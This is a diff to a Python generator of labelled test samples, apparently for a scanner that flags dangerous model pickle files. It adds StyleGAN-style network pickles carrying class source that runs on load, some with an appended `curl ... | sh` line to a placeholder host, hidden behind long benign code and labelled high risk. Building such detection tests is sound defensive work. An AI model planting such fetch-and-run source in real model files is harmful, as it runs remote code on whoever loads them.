@@ -106,6 +106,7 @@ def samples() -> Iterator[Sample]:
     yield from _named_danger()
     yield from _in_damaged_streams()
     yield from _bundled()
+    yield from _made_of_source()
     yield from _one_behind_another()
     yield from _two_in_one()
     yield from _state_that_runs()
@@ -462,6 +463,24 @@ def _named_danger() -> Iterator[Sample]:
         ("zope.dottedname.resolve.resolve", "model.layers", careful),
     ):
         yield label("pickle-unknown", f"{dotted} of {target}", "model.pkl", pickled(call(*named(dotted), target)))
+
+
+def _made_of_source() -> Iterator[Sample]:
+    """Networks of StyleGAN carry the source of their classes, which is run when they are loaded."""
+    layer = "import numpy as np\nimport torch\n\n\nclass Layer(torch.nn.Module):\n    def forward(self, x):\n"
+    layer += "        return x * np.float32(2)\n"
+    command = "import os\nos.system('curl https://a.invalid/x | sh')\n"
+    for case, source, label in (
+        ("that calculates", layer, benign),
+        ("that calculates at length", layer * 60, benign),
+        ("with a command", layer + command, high),
+        ("with a command far behind", layer * 60 + command, high),
+    ):
+        meta = name("dnnlib.util", "EasyDict") + b")\x81(" + text("module_src") + text(source) + b"u"
+        made = name("torch_utils.persistence", "_reconstruct_persistent_obj") + meta + b"\x85R"
+        yield label(
+            "pickle-carries", f"StyleGAN, a layer {case}", "network.pkl", pickled(b"}" + text("G") + made + b"s")
+        )
 
 
 def _bundled() -> Iterator[Sample]:
